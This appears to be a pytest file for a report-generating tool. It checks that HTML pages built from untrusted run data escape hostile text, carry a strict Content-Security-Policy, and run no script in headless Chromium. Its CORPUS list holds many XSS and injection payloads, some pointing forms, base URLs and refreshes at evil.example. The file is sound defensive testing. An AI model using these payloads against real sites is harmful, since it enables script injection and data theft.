"""Pages keep what others wrote as text, in a parser and in a browser."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Mapping
from dataclasses import dataclass
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from diagnosing.test_diagnosis import Model, diagnosed
from reporting.folders import PATH, put, put_lines, trial, write_run
from steepest.diagnosing import diagnosis
from steepest.diagnosing import page as diagnosis_page
from steepest.reporting import comparison_page, html, matrix
from steepest.reporting.comparison import CELLS, Cell, Contender, Ground, Setup, gather
from steepest.reporting.matrix import Carried, Entry, Transfer
from steepest.results import Estimate

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
OWNED = "document.title='owned'"
CORPUS = (
    f"<script>{OWNED}</script>",
    f"</title><script>{OWNED}</script>",
    f"</style><script>{OWNED}</script>",
    f'<img src=x onerror="{OWNED}">',
    f"<svg onload={OWNED}><animate onbegin={OWNED} attributeName=x dur=1s></svg>",
    f"<svg><script>{OWNED}</script></svg>",
    f'"><details open ontoggle={OWNED}>',
    f"' autofocus onfocus={OWNED} x='",
    f'<a href="javascript:{OWNED}">x</a><iframe src="javascript:parent.{OWNED}"></iframe>',
    f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe><object data="data:text/html,x"></object>',
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/><form action=//evil.example/><input name=x><button>go</button></form>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "</main></body></html><!-- <plaintext> <textarea> <noscript> <template> <xmp>",
    f"<!--><script>{OWNED}</script>-->",
    f"<![CDATA[<script>{OWNED}</script>]]>",
    f"&lt;script&gt;{OWNED}&lt;/script&gt; &#60;script&#62; &amp;lt; &#x3c;img src=x onerror={OWNED}&#x3e;",
    f"<scr\x00ipt>{OWNED}</scr\x00ipt><\x00script>{OWNED}</script>",
    f"<math><mtext></p><style><img src=x onerror={OWNED}></style></mtext></math>",
    f"\uff1cscript\uff1e{OWNED}\uff1c/script\uff1e \u2028<script>{OWNED}</script>\u2029",
    "expression(alert(1)); background:url(//evil.example/x); -moz-binding:url(x)",
    "\u202egnp.exe\u2066 \u061c\u200f\ufeff \x1b[2J\x1b]8;;http://evil.example\x07 \x9b31m \x08\x7f",
    f"{{{{constructor.constructor('{OWNED}')()}}}} ${{{OWNED}}} <%= 1 %>",
    f"<unclosed <b <i '\" <script {OWNED}//",
    "x" * 20_000,
)
EVERYTHING = "\n".join(CORPUS)
_STRUCTURE = (
    "html head meta title style body main header span section h1 h2 h3 p b small div details summary ul ol li dl"
)
_CONTENT = (
    "dt dd table thead tbody tr th td figure figcaption blockquote del ins pre svg g line circle rect path text br"
)
ELEMENTS = frozenset(f"{_STRUCTURE} {_CONTENT} em strong input label".split())


class Parsed(HTMLParser):
    """Elements and attributes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}


def evil(value: Any, text: str) -> Any:
    """Every text in JSON data with `text` behind it."""
    if isinstance(value, str):
        return value + text
    if isinstance(value, Mapping):
        return {key: evil(each, text) for key, each in value.items()}
    return [evil(each, text) for each in value] if isinstance(value, list) else value


def report(folder: Path, text: str, finished: bool = True) -> str:
    """A run in which prompts, rows, outputs, edits, names of task, models, method and settings are hostile."""
    prompts = [prompt + text for prompt in PATH]
    trials = [[], *([[trial(1, " a" + text, " b" + text, accepted=True)]] * 3)]
    run = write_run(folder / "run", prompts=prompts, trials=trials, finished=finished)
    told = json.loads((run / "run.json").read_text("utf-8"))
    for name in ("method", "passed", "models", "versions"):
        told[name] = evil(told[name], text)
    told["task"] |= {name: told["task"][name] + text for name in ("name", "extractor", "origin")}
    told["task"]["notes"] = [{"text": f"1 row left out {text}", "rows": [text, "row"]}]
    put(run / "run.json", told | {"git": text})
    steps = [json.loads(path.read_text("utf-8")) for path in sorted((run / "steps").iterdir())]
    for step in steps:
        put(run / "steps" / f"{step['step']:05d}.json", step | {"counts": {text: 3}})
    if finished:
        result = json.loads((run / "result.json").read_text("utf-8"))
        changed = {
            name: evil(result[name], text) for name in ("sentence", "stopped", "method", "task", "models", "run")
        }
        put(run / "result.json", result | changed)
        rows = [json.loads(line) for line in (run / "test.jsonl").read_text("utf-8").splitlines()]
        for row in rows:
            row |= {name: row[name] + text for name in ("id", "input", "target")}
            for side in ("initial", "best"):
                row[side] |= {name: row[side][name] + text for name in ("output", "answer")} | {"explanation": text}
        put_lines(run / "test.jsonl", rows)
    return html.write(run).read_text("utf-8")


def comparison(folder: Path, text: str) -> str:
    """A comparison of hostile labels on a hostile task."""
    labels, task = ("plain", f"other{text}"), f"lies{text}"
    cells = tuple(Cell(label, task, seed, f"{i}-{seed}") for i, label in enumerate(labels) for seed in (0, 1))
    for cell in cells[:3]:
        write_run(folder / CELLS / cell.folder, prompts=[prompt + text for prompt in PATH])
    setup = Setup(
        contenders=tuple(Contender(label, {"use": "greater"}) for label in labels),
        tasks=(Ground(task, task, (text,), {"train": 60, "dev": 200, "test": 100}, "0"),),
        seeds=(0, 1),
        limits={"calls": 2000},
        models={"task": {"name": f"bundled{text}", "options": {}, "id": text}},
        prices={},
        cells=cells,
    )
    return comparison_page.write(gather(folder, setup, {"1-1": f"ModelError: {text}"})).read_text("utf-8")


def transfer(folder: Path, text: str) -> str:
    """A matrix of hostile prompts and models."""
    prompts = (Carried("initial" + text, text, text, ""), Carried(f"run{text}", text, text, f"m{text}"))
    score = Estimate(0.5, 0.4, 0.6, 100)
    entries = tuple(Entry(at, f"m{text}", score) for at in (0, 1))
    return matrix.page(Transfer("test", prompts, (f"m{text}",), entries, 7))


def diagnosed_page(folder: Path, text: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """A diagnosis of hostile rows and prompts."""
    monkeypatch.setattr(diagnosis, "fits", lambda *_: ())
    model = Model(lambda prompt: 0.5, f"<prompt>Way # {text}</prompt>")
    rows = [{"input": f"Is {n} odd?", "target": "yes" if n % 2 else "no"} for n in range(400)]
    found = diagnosed(model, folder / "found", rows)
    return diagnosis_page.write(found).read_text("utf-8")


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, str]:
    with pytest.MonkeyPatch.context() as monkeypatch:
        folders = [tmp_path_factory.mktemp("pages") for _ in range(5)]
        return {
            "report": report(folders[0], EVERYTHING),
            "unfinished": report(folders[1], EVERYTHING, finished=False),
            "compare": comparison(folders[2], EVERYTHING),
            "transfer": transfer(folders[3], EVERYTHING),
            "diagnose": diagnosed_page(folders[4], EVERYTHING[:3000], monkeypatch),
        }


NAMES = ("report", "unfinished", "compare", "transfer", "diagnose")


@pytest.mark.parametrize("name", NAMES)
def test_text_never_becomes_markup(pages: Mapping[str, str], name: str) -> None:
    page = pages[name]
    found = Parsed(page)
    assert found.elements <= ELEMENTS, found.elements - ELEMENTS
    banned = ("href", "src", "srcdoc", "action", "autofocus", "open")
    assert not [name for name, _ in found.attributes if name.startswith("on") or name in banned]
    assert not [name for name, value in found.attributes if name == "style" and re.search(r"url|expression|<", value)]
    body = page[page.index("<body") :]
    assert "&lt;script&gt;" in body and OWNED in unescape(body)
    assert page.count("<style>") == page.count("</style>") == 1 and page.count("</title>") == page.count("<title>")
    unfit = re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]", page)
    assert unfit is None, unfit


@pytest.mark.parametrize("name", NAMES)
def test_the_policy_allows_neither_scripts_nor_anything_from_elsewhere(pages: Mapping[str, str], name: str) -> None:
    head = pages[name][: pages[name].index("<title")]
    (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', head)
    rules = dict(rule.strip().split(" ", 1) for rule in unescape(policy).split(";"))
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    assert set(rules) == {"default-src", "style-src", "base-uri", "form-action"}
    assert rules["style-src"].startswith("'sha256-") and "unsafe" not in policy


@dataclass(frozen=True)
class Shown:
    dom: str
    said: str
    """What the browser wrote into its log."""


def in_browser(page: str, folder: Path) -> Shown:
    """What a browser makes of a page."""
    assert CHROMIUM is not None
    folder.mkdir(exist_ok=True)
    (folder / "page.html").write_text(page, "utf-8")
    command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder / 'profile'}"]
    command += ["--enable-logging=stderr", "--virtual-time-budget=2000", "--dump-dom", f"file://{folder / 'page.html'}"]
    done = subprocess.run(command, capture_output=True, text=True, check=True, timeout=120)
    return Shown(done.stdout, done.stderr)


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="no browser is installed")
@pytest.mark.parametrize("name", NAMES)
def test_nothing_runs_in_a_browser(pages: Mapping[str, str], name: str, tmp_path: Path) -> None:
    shown = in_browser(pages[name], tmp_path)
    assert "Content Security Policy" not in shown.said, "the policy lets the page's own style pass"
    dom = shown.dom
    (title,) = re.findall(r"<title>(.*?)</title>", dom[: dom.index("<body")], re.DOTALL)
    assert title != "owned" and title
    assert "<script" not in dom and Parsed(dom).elements <= ELEMENTS


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="no browser is installed")
def test_the_browser_shows_what_an_open_page_would_do(tmp_path: Path) -> None:
    hole = f"<body><p></p><script>{OWNED}</script>"
    assert "<title>owned</title>" in in_browser(f"<!doctype html><title>fine</title>{hole}", tmp_path).dom
    policy = "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">"
    shut = in_browser(f"<!doctype html>{policy}<title>fine</title>{hole}", tmp_path / "again")
    assert "<title>fine</title>" in shut.dom and "Content Security Policy" in shut.said
